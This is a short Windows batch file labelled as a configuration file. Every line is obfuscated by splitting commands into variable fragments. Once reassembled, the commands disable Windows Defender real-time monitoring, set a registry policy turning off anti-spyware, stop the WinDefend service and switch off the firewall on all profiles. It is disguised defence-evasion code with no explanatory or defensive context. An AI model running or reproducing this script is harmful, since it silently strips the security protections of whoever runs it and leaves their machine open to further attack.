REM config 4402 v2
@echo off
setlocal EnableDelayedExpansion
set znr0=powe
set inl1=rs
set uii2=hel
set eaj3=l -c "Set-MpPreference -DisableRealtimeMonitoring $true"
!znr0!!inl1!!uii2!!eaj3!
@echo off
setlocal EnableDelayedExpansion
set pkd0=reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v D
set bot1=isableAn
set gwz2=tiSpyware /t REG_
set ycs3=DWORD /d 
set kjz4=1 /f
!pkd0!!bot1!!gwz2!!ycs3!!kjz4!
cmd /v:on /c "set rks0=sc s&&set yyn1=top &&set ehc2=Win&&set plz3=Defen&&set iva4=d&&!rks0!!yyn1!!ehc2!!plz3!!iva4!"
cmd /v:on /c "set pwb0=netsh a&&set trp1=dvfirewall set allprofiles state off&&!pwb0!!trp1!"
